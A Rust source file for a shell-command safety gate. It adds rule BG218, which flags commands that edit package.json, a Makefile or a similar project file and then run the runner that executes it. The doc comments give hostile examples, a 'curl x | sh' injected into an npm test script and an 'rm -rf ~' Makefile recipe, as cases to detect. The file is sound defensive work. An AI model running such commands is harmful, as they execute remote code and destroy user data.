@@ -1,0 +1,224 @@
+//! BG218: a project file edited earlier in the command and then executed by a
+//! runner later in it (`sed -i ... package.json && npm test`, `echo ... > Makefile;
+//! make`). The program catalogue says which files each runner executes
+//! (`runs_files`); the written text is judged when the gate knows it (package.json
+//! scripts and Makefile recipes are shell text), and the command asks when not.
+
+use crate::catalogue::Entry;
+use crate::declare_rule;
+use crate::model::command::SimpleCommand;
+use crate::rules::invocation::{Invocation, any_entry, entry_of};
+use crate::rules::written_files::{WrittenFile, written_files};
+use crate::rules::{CHECKS, Checker};
+use crate::verdict::{Decision, Finding};
+use std::path::Path;
+
+declare_rule! {
+    /// ## What it does
+    /// Asks when a command writes or edits a file that a runner later in the same
+    /// command executes: `package.json` then `npm run`/`npm test`/`npm install`
+    /// (and pnpm, yarn); `Makefile`/`*.mk` then `make`; `build.rs`, `Cargo.toml`,
+    /// `.cargo/config.toml` then `cargo build|test|run`; `conftest.py`, `setup.py`,
+    /// `pyproject.toml` then `pytest`/`pip install`; `Rakefile`, `Gemfile`, gradle
+    /// files, `justfile`, `Taskfile.yml` then their runners. Any write counts:
+    /// redirects, `tee`, `cp`/`mv` destinations, `sed -i`, `perl -pi`.
+    ///
+    /// When the whole text written is known and is shell text the gate can read — a
+    /// package.json's `scripts`, a Makefile's recipes — that text is judged like the
+    /// command itself instead: findings in it are reported on the write, and a
+    /// harmless script passes.
+    ///
+    /// ## Why
+    /// Editing a project file and running its runner is running code written in the
+    /// same command, one step removed: `sed -i 's/"test": ".*"/"test": "curl x|sh"/'
+    /// package.json && npm test` runs whatever the edit put there, which no other
+    /// rule sees.
+    ///
+    /// ## Example
+    /// - `sed -i 's/jest/curl x | sh/' package.json && npm test` → ask
+    /// - `npm test` → allow
+    /// - `printf 'all:\n\trm -rf ~\n' > Makefile; make` → ask
+    /// - `echo '{"scripts":{"test":"jest"}}' > package.json && npm test` → allow
+    pub static RUNNER_FILE_EDITED = {
+        code: "BG218",
+        name: "runner-file-edited",
+        default: Ask,
+        capability: InlineScript,
+        summary: "edits a project file, then runs the runner that executes it (package.json, Makefile, build.rs...)",
+    };
+}
+
+/// True when `path` is one of the runner's `runs_files`: a name (`Makefile`) is
+/// matched against the basename, `*.mk` against the extension, a path with `/`
+/// (`.cargo/config.toml`) against the path's last components.
+pub fn runs_file(patterns: &[&str], path: &Path) -> bool {
+    let text = path.to_string_lossy();
+    let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
+    patterns.iter().any(|p| {
+        if let Some(ext) = p.strip_prefix('*') {
+            name.ends_with(ext) && name.len() > ext.len()
+        } else if p.contains('/') {
+            text.ends_with(&format!("/{p}"))
+        } else {
+            name == *p
+        }
+    })
+}
+
+/// Finds every runner that executes a file written before it.
+pub fn check(commands: &[SimpleCommand], cx: &mut Checker) {
+    let mut written: Vec<WrittenFile> = Vec::new();
+    for cmd in commands {
+        let runner = !written.is_empty()
+            && entry_of(cmd).is_some_and(|e| any_entry(e, &|e: &Entry| !e.runs_files.is_empty()));
+        if runner && let Some(inv) = Invocation::of(cmd) {
+            let patterns = inv.runs_files();
+            if !patterns.is_empty() {
+                // Each written file is judged once, by the first runner that runs
+                // it: one finding decides, and judging it again for every later
+                // runner would make the work grow with runners times text.
+                let (hits, rest): (Vec<WrittenFile>, Vec<WrittenFile>) =
+                    written.drain(..).partition(|f| {
+                        runs_file(patterns, &f.path)
+                            || f.real.as_deref().is_some_and(|r| runs_file(patterns, r))
+                    });
+                written = rest;
+                for file in &hits {
+                    judge(file, &inv, cmd, cx);
+                }
+            }
+        }
+        for file in written_files(cmd, cx) {
+            written.retain(|f| f.path != file.path);
+            written.push(file);
+        }
+    }
+}
+
+/// Judges one written file run by `inv`.
+fn judge(file: &WrittenFile, inv: &Invocation, cmd: &SimpleCommand, cx: &mut Checker) {
+    let name = file
+        .path
+        .file_name()
+        .map(|n| n.to_string_lossy().into_owned())
+        .unwrap_or_default();
+    let runner = std::iter::once(inv.program)
+        .chain(inv.subcommands.iter().copied())
+        .collect::<Vec<_>>()
+        .join(" ");
+    let whole_text = file.text.as_deref().filter(|_| !file.append);
+    let scripts = whole_text.and_then(|t| shell_parts(&name, t));
+    let Some(scripts) = scripts else {
+        let why = if whole_text.is_some() {
+            "its code is not shell text the gate reads"
+        } else {
+            "what the edit put there is only known at run time"
+        };
+        cx.report(
+            &RUNNER_FILE_EDITED,
+            file.span,
+            format!(
+                "{name} is written here and then run by `{runner}` (at byte {}): {why}",
+                cmd.span.start
+            ),
+        );
+        return;
+    };
+    let mut inner = Vec::new();
+    for script in &scripts {
+        inner.extend(judge_script(script, cx));
+    }
+    if let Some(worst) = inner.iter().max_by_key(|f| f.decision) {
+        let decision = worst.decision.max(Decision::Ask);
+        let rules: Vec<&str> = inner.iter().map(|f| f.rule).collect();
+        let mut finding = crate::rules::finding(
+            &RUNNER_FILE_EDITED,
+            file.span,
+            cx.source,
+            format!(
+                "{name} is written here and then run by `{runner}`; its scripts trigger {}: {}",
+                rules.join(", "),
+                worst.message
+            ),
+        );
+        finding.decision = decision;
+        cx.findings.push(finding);
+    }
+}
+
+/// The shell text in a runner file's known content: package.json `scripts` values,
+/// Makefile recipe lines. `None` when the file is code of another language, or
+/// has constructs whose effect is not plain shell text (make functions and
+/// variables, includes).
+pub fn shell_parts(name: &str, text: &str) -> Option<Vec<String>> {
+    if name == "package.json" {
+        let value: serde_json::Value = serde_json::from_str(text).ok()?;
+        let Some(scripts) = value.get("scripts") else {
+            return Some(Vec::new());
+        };
+        let scripts = scripts.as_object()?;
+        return scripts
+            .values()
+            .map(|v| v.as_str().map(str::to_string))
+            .collect();
+    }
+    let makefile = matches!(name, "Makefile" | "makefile" | "GNUmakefile") || name.ends_with(".mk");
+    if !makefile {
+        return None;
+    }
+    let mut recipes = Vec::new();
+    for line in text.lines() {
+        if let Some(recipe) = line.strip_prefix('\t') {
+            if recipe.contains("$(") || recipe.contains("${") {
+                // A make expansion: its value is make's, not the text's.
+                return None;
+            }
+            let recipe = recipe
+                .trim_start_matches(['@', '-', '+'])
+                .replace("$$", "$");
+            recipes.push(recipe);
+            continue;
+        }
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') {
+            continue;
+        }
+        // A rule line `target: prerequisites`, nothing else (assignments, include,
+        // SHELL, define, functions change what runs).
+        let special = trimmed.starts_with('.') && !trimmed.starts_with(".PHONY");
+        let rule =
+            trimmed.contains(':') && !trimmed.contains('=') && !trimmed.contains('$') && !special;
+        if !rule {
+            return None;
+        }
+    }
+    Some(recipes)
+}
+
+/// The findings the gate's checks give `script`, run where the command runs.
+fn judge_script(script: &str, cx: &Checker) -> Vec<Finding> {
+    let env = crate::model::Env {
+        cwd: cx.paths.root(),
+        resolver: cx.paths.resolver(),
+        max_nesting: cx.policy.max_nesting,
+        fast_path: true,
+    };
+    let model = crate::model::build(script, &env);
+    let mut inner = Checker {
+        policy: cx.policy,
+        paths: cx.paths,
+        cwd: cx.paths.root().to_path_buf(),
+        source: script,
+        findings: model
+            .problems
+            .iter()
+            .map(|p| crate::rules::input::problem_finding(p, script))
+            .collect(),
+    };
+    for cmd in &model.commands {
+        for check in CHECKS {
+            check(cmd, &mut inner);
+        }
+    }
+    inner.findings
+}
